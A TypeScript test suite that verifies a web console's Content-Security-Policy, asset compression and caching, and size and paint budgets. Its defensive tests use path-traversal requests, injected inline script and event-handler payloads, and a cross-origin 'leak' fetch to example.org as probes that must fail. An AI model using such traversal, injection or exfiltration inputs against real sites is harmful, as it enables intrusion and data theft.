import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import express from 'express';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLogger } from '#src/core/logger.ts';
import { createConsolePages } from '#src/wiring/console-pages.ts';
import { cleanUpFile, temporaryFolder } from '../support/data-dir.ts';
import { type RunningService, sharedService } from '../support/service.ts';
import { chromiumProgram, openBrowser, openPage } from './support/browser.ts';
import { bestOf, contention } from './support/patience.ts';
import { goTo, signInWithNewKey } from './support/steps.ts';

const scriptBudgetBytes = 250_000;
const firstPaintMs = 1_000;

describe('the console as it is served', () => {
  let service: RunningService;

  beforeAll(async () => {
    service = await sharedService();
  });
  afterAll(cleanUpFile);

  async function partsOfPage(): Promise<string[]> {
    const html = await (await fetch(service.url)).text();
    return [...html.matchAll(/(?:src|href)="([^"]+)"/g)].map(([, address]) => address!);
  }

  it('is a page without a script or style of its own in it, under a policy that runs no other', async () => {
    const response = await fetch(service.url);
    const html = await response.text();
    expect(response.headers.get('content-type')).toMatch(/^text\/html/);
    expect(response.headers.get('cache-control')).toBe('no-cache');
    expect(html).not.toMatch(/<style|style=|<script(?![^>]*\bsrc=)|\son\w+=/i);
    const policy = response.headers.get('content-security-policy')!;
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("script-src 'self'");
    expect(policy).not.toMatch(/unsafe|https?:|\*/);
    for (const address of await partsOfPage()) expect(address).toMatch(/^\/console\/assets\/[\w.-]+$/);
  });

  it('sends its parts compressed, to be kept for as long as a browser likes', async () => {
    for (const address of await partsOfPage()) {
      for (const encoding of address.endsWith('.svg') ? [] : ['br', 'gzip']) {
        const response = await fetch(service.url + address, { headers: { 'accept-encoding': encoding } });
        expect(response.status).toBe(200);
        expect(response.headers.get('content-encoding')).toBe(encoding);
        expect(response.headers.get('cache-control')).toContain('immutable');
        expect(response.headers.get('content-type')).toMatch(/^text\/(?:javascript|css)/);
        expect((await response.text()).length).toBeGreaterThan(100);
      }
      const plain = await fetch(service.url + address, { headers: { 'accept-encoding': 'identity' } });
      expect(plain.headers.get('content-encoding')).toBeNull();
    }
  });

  it('answers parts that there are not as any address that there is not', async () => {
    for (const address of ['/console/assets/none.js', '/console/assets/..%2findex.html', '/console/other']) {
      const response = await fetch(service.url + address);
      expect(response.status, address).toBe(404);
      expect((await response.json()).code).toBe('not_found');
    }
    const moved = await fetch(`${service.url}/console`, { redirect: 'manual' });
    expect(moved.headers.get('location')).toBe('/');
  });

  it('leaves the policy of everything else as it was', async () => {
    const policy = (await fetch(`${service.url}/healthz`)).headers.get('content-security-policy')!;
    expect(policy).toContain("default-src 'self'");
  });

  it('is left out, with one line that says so, where it was not built', async () => {
    const folder = await temporaryFolder();
    const lines: unknown[] = [];
    const logger = createLogger('silent');
    logger.warn = ((...line: unknown[]) => lines.push(line)) as typeof logger.warn;
    const app = express().use(createConsolePages({ logger, folder }));
    app.get('/healthz', (_request, response) => void response.json({ status: 'ok' }));
    expect(lines).toHaveLength(1);
    expect(JSON.stringify(lines)).toContain('not built');
    const server = app.listen(0, '127.0.0.1');
    await new Promise((resolve) => server.once('listening', resolve));
    const url = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
    expect((await fetch(url)).status).toBe(404);
    expect((await fetch(`${url}/healthz`)).status).toBe(200);
    await new Promise((resolve) => server.close(resolve));
  });

  it('serves what a build has made and nothing beside it', async () => {
    const folder = await temporaryFolder();
    await mkdir(join(folder, 'assets'));
    await writeFile(join(folder, 'index.html'), '<!doctype html>');
    await writeFile(join(folder, 'secret.js'), 'no');
    await writeFile(join(folder, 'assets', 'a.js'), 'yes');
    const server = express()
      .use(createConsolePages({ logger: createLogger('silent'), folder }))
      .listen(0, '127.0.0.1');
    await new Promise((resolve) => server.once('listening', resolve));
    const url = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
    expect(await (await fetch(`${url}/console/assets/a.js`)).text()).toBe('yes');
    expect((await fetch(`${url}/console/assets/..%2fsecret.js`)).status).toBe(404);
    await new Promise((resolve) => server.close(resolve));
  });

  describe.runIf(chromiumProgram)('in a browser', () => {
    const openHere = async () => openPage(await openBrowser(), service.url);

    it('runs no script but its own, wherever one is put', async () => {
      const { page, log } = await openHere();
      await signInWithNewKey(page);
      await page.evaluate(`{
        const script = document.createElement('script');
        try { script.textContent = 'window.ran = 1'; } catch {}
        document.body.append(script);
        const image = document.createElement('img');
        image.setAttribute('src', 'data:,x');
        try { image.setAttribute('onerror', 'window.ran = 2'); } catch {}
        document.body.append(image);
        try { document.body.insertAdjacentHTML('beforeend', '<b onclick="window.ran = 3">b</b>'); } catch {}
      }`);
      // The evaluation of a string is refused to the page’s own scripts, too.
      await page.waitForTimeout(200);
      expect(await page.evaluate('window.ran')).toBeUndefined();
      expect(log.errors.join('\n')).toMatch(/Content Security Policy|TrustedScript/);
    });

    it('asks no other origin, even if told to', async () => {
      const { page, log } = await openHere();
      await page.goto('/');
      const refused = await page.evaluate(
        `fetch('https://example.org/?leak=1').then(() => 'sent', () => 'refused')`,
      );
      expect(refused).toBe('refused');
      expect(log.errors.join('\n')).toContain('Content Security Policy');
    });

    it('needs under 250 kB of compressed script for all its places, and paints within a second', async () => {
      const { page } = await openHere();
      const session = await page.context().newCDPSession(page);
      await session.send('Network.enable');
      const scripts = new Map<string, number>();
      const addresses = new Map<string, string>();
      session.on('Network.responseReceived', ({ requestId, response }) =>
        addresses.set(requestId, response.url),
      );
      session.on('Network.loadingFinished', ({ requestId, encodedDataLength }) => {
        const address = addresses.get(requestId) ?? '';
        // What comes from the cache the second time weighs nothing.
        if (address.endsWith('.js'))
          scripts.set(address, Math.max(encodedDataLength, scripts.get(address) ?? 0));
      });
      const paint = await bestOf(3, async () => {
        await page.goto('/');
        await page.getByRole('heading', { level: 1 }).waitFor();
        return Number(
          await page.evaluate(`new Promise((resolve) => new PerformanceObserver((list, observer) => {
            observer.disconnect();
            resolve(list.getEntriesByName('first-contentful-paint')[0].startTime);
          }).observe({ type: 'paint', buffered: true }))`),
        );
      });
      expect(paint).toBeLessThan(firstPaintMs * contention());
      await signInWithNewKey(page);
      for (const place of ['Read', 'Memory', 'Agents', 'You'] as const) {
        await goTo(page, place);
        await page.getByRole('heading', { level: 1 }).waitFor();
      }
      await page.goto('/#/research');
      await page.getByRole('heading', { name: 'Research' }).waitFor();
      await page.evaluate(
        `import(performance.getEntriesByType('resource').find(({ name }) => /\\/chart-/.test(name)).name)`,
      );
      // The library of the plots comes with the first plot; here there is nothing to plot yet.
      const library = await librarySize(service.url, scripts);
      const total = [...scripts.values()].reduce((sum, bytes) => sum + bytes, 0) + library;
      expect(scripts.size).toBeGreaterThan(5);
      expect(total).toBeGreaterThan(100_000);
      expect(total).toBeLessThan(scriptBudgetBytes);
    });
  });
});

/** Bytes of the parts that the loaded ones name and that were not loaded, as a browser gets them. */
async function librarySize(url: string, loaded: ReadonlyMap<string, number>): Promise<number> {
  const named = new Set<string>();
  for (const address of loaded.keys()) {
    const text = await (await fetch(address)).text();
    for (const [, name] of text.matchAll(/["'`]\.\/([\w-]+\.js)["'`]|assets\/([\w-]+\.js)/g))
      if (name) named.add(name);
  }
  let bytes = 0;
  for (const name of named) {
    const address = `${url}/console/assets/${name}`;
    if (loaded.has(address)) continue;
    const response = await fetch(address, { headers: { 'accept-encoding': 'br' } });
    bytes += Number(response.headers.get('content-length') ?? 0);
  }
  return bytes;
}
